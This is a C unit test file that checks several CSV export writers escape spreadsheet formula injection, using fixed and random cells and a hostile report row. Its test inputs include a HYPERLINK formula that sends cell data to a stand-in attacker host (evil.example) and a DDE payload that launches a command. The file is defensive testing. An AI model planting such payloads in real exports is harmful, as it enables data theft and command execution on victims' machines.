/* test_csv_export.c - every CSV writer neutralises spreadsheet formulas:
 * a property test over random cells for csv_write_field and the writers
 * built on it (ipk_csv_field, dashboard_csv_field, csv_write_row), and the whole Perpres
 * CSV with a hostile vacancy title. Each output is read back with the CSV
 * reader: the cell is the input, or the input behind one single quote when
 * it would start a formula; plain numbers stay numbers. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/buf.h"
#include "core/csv.h"
#include "core/wilayah.h"
#include "report/ipk.h"
#include "report/perpres.h"
#include "web/dashboard.h"

typedef void (*csv_writer)(struct buf *out, const char *s);

static const struct {
	const char *name;
	csv_writer write;
} writers[] = {
	{ "csv_write_field", csv_write_field },
	{ "ipk_csv_field", ipk_csv_field },
	{ "dashboard_csv_field", dashboard_csv_field },
};

static bool
starts_like_formula(const char *s)
{
	return *s != '\0' && strchr("=+-@\t\r", *s) != NULL;
}

/* A plain number as the writer defines it: sign, digits, one point inside. */
static bool
plain_number(const char *s)
{
	size_t digits = 0;
	bool point = false;
	if (*s == '-' || *s == '+')
		s++;
	for (; *s; s++) {
		if (*s >= '0' && *s <= '9')
			digits++;
		else if (*s == '.' && !point && digits > 0)
			point = true;
		else
			return false;
	}
	return digits > 0 && s[-1] != '.';
}

/* Write "x,<cell>,y\r\n" under a header line (which fixes ',' as the
 * delimiter) and read the middle field back. */
static void
check_cell(csv_writer write, const char *name, const char *cell)
{
	struct buf b;
	struct csv_reader r;
	struct csv_row row;
	char want[300];

	buf_init(&b, 0);
	buf_puts(&b, "a,b,c\r\nx,");
	write(&b, cell);
	buf_puts(&b, ",y\r\n");
	csv_init(&r, b.data, b.len);
	if (csv_next(&r, &row) != CSV_ROW || csv_next(&r, &row) != CSV_ROW || row.count != 3) {
		fail_msg("%s: %s did not read back as one cell", name, cell);
	}
	bool neutral = starts_like_formula(cell) && !plain_number(cell);
	snprintf(want, sizeof(want), "%s%s", neutral ? "'" : "", cell);
	if (strcmp(row.fields[1], want) != 0)
		fail_msg("%s: wrote [%s], read [%s], want [%s]", name, cell, row.fields[1], want);
	/* The property a spreadsheet cares about. */
	if (starts_like_formula(row.fields[1]) && !plain_number(row.fields[1]))
		fail_msg("%s: [%s] still starts a formula", name, row.fields[1]);
	assert_string_equal(row.fields[0], "x");
	assert_string_equal(row.fields[2], "y");
	csv_free(&r);
	buf_free(&b);
}

static void
test_known_cells(void **state)
{
	static const char *const cells[] = {
		"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")", "=1+2", "+62812", "-2+3", "@SUM(A1:A9)",
		"\tcmd", "\r=1", "=cmd|' /C calc'!A0", "-", "+", "@", "=", "", "Operator, Produksi",
		"say \"hi\"", "a\nb", "-12", "+3", "-0.5", "12.3", "0", "<5", "-.5", "1.", "--1", "-1e5",
		" =1", "Rp 5.000.000", "'already",
	};
	(void)state;
	for (size_t w = 0; w < sizeof(writers) / sizeof(writers[0]); w++)
		for (size_t i = 0; i < sizeof(cells) / sizeof(cells[0]); i++)
			check_cell(writers[w].write, writers[w].name, cells[i]);
	assert_true(csv_field_is_formula("=1"));
	assert_true(csv_field_is_formula("-2+3"));
	assert_false(csv_field_is_formula("-12"));
	assert_false(csv_field_is_formula("-0.5"));
	assert_false(csv_field_is_formula("Budi"));
}

static void
test_random_cells(void **state)
{
	static const char alphabet[] = "=+-@\t\r\n,\"';.0123456789aZ (|)!:";
	char cell[40];
	unsigned seed = 13;

	(void)state;
	for (int n = 0; n < 20000; n++) {
		size_t len = (size_t)(rand_r(&seed) % (sizeof(cell) - 1));
		for (size_t i = 0; i < len; i++)
			cell[i] = alphabet[rand_r(&seed) % (sizeof(alphabet) - 1)];
		cell[len] = '\0';
		for (size_t w = 0; w < sizeof(writers) / sizeof(writers[0]); w++)
			check_cell(writers[w].write, writers[w].name, cell);
	}
}

/* csv_write_row: random rows of random cells (and NULL, written empty)
 * read back as the same cells, neutralised as csv_write_field does it. */
static void
test_random_rows(void **state)
{
	static const char alphabet[] = "=+-@\t\r\n,\"';.0123456789aZ (|)!:";
	char cells[8][40], want[300];
	const char *fields[8];
	unsigned seed = 29;

	(void)state;
	for (int n = 0; n < 5000; n++) {
		size_t count = 2 + (size_t)(rand_r(&seed) % 7);   /* one empty field would be a blank line */
		struct buf b;
		struct csv_reader r;
		struct csv_row row;
		buf_init(&b, 0);
		buf_puts(&b, "h\r\n");   /* a header line of one field: ',' is the delimiter */
		for (size_t f = 0; f < count; f++) {
			size_t len = (size_t)(rand_r(&seed) % (sizeof(cells[f]) - 1));
			for (size_t i = 0; i < len; i++)
				cells[f][i] = alphabet[rand_r(&seed) % (sizeof(alphabet) - 1)];
			cells[f][len] = '\0';
			fields[f] = rand_r(&seed) % 10 == 0 ? NULL : cells[f];
		}
		csv_write_row(&b, fields, count);
		csv_write_row(&b, fields, count);   /* the second starts where the first ended */
		csv_init(&r, b.data, b.len);
		assert_int_equal(csv_next(&r, &row), CSV_ROW);
		for (int twice = 0; twice < 2; twice++) {
			assert_int_equal(csv_next(&r, &row), CSV_ROW);
			assert_int_equal(row.count, count);
			for (size_t f = 0; f < count; f++) {
				const char *cell = fields[f] != NULL ? fields[f] : "";
				bool neutral = starts_like_formula(cell) && !plain_number(cell);
				snprintf(want, sizeof(want), "%s%s", neutral ? "'" : "", cell);
				if (strcmp(row.fields[f], want) != 0)
					fail_msg("row field %zu: wrote [%s], read [%s]", f, cell, row.fields[f]);
			}
		}
		assert_int_equal(csv_next(&r, &row), CSV_END);
		csv_free(&r);
		buf_free(&b);
	}
}

/* The Perpres CSV with a hostile title, employer and skill list: no cell of
 * the file starts a formula, and the title reads back behind a quote. */
static void
test_perpres_csv(void **state)
{
	struct perpres_row row;
	struct buf b;
	struct csv_reader r;
	struct csv_row rec;
	size_t records = 0;
	bool seen_title = false;

	(void)state;
	assert_int_equal(wilayah_init(), 0);
	memset(&row, 0, sizeof(row));
	row.id = 7;
	row.employer_name = "@Evil";
	row.employer_kind = "company";
	row.title = "=HYPERLINK(\"http://evil.example\",\"Klik\")";
	row.skills = "-1+1";
	row.location = "+Purbalingga";
	row.sex = "any";
	row.wage_unit = "month";
	row.wage_min = 2000000;
	row.wage_max = 2500000;
	row.workers = 2;
	row.kbli = 'C';
	buf_init(&b, 0);
	perpres_csv_header(&b);
	perpres_csv_row(&row, &b);
	csv_init(&r, b.data, b.len);
	while (csv_next(&r, &rec) == CSV_ROW) {
		records++;
		for (size_t c = 0; c < rec.count; c++) {
			if (starts_like_formula(rec.fields[c]) && !plain_number(rec.fields[c]))
				fail_msg("perpres cell %zu of record %zu: [%s]", c, records, rec.fields[c]);
			if (strcmp(rec.fields[c], "'=HYPERLINK(\"http://evil.example\",\"Klik\")") == 0)
				seen_title = true;
		}
	}
	assert_int_equal(records, 2);
	assert_true(seen_title);
	csv_free(&r);
	buf_free(&b);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_known_cells),
		cmocka_unit_test(test_random_cells),
		cmocka_unit_test(test_random_rows),
		cmocka_unit_test(test_perpres_csv),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
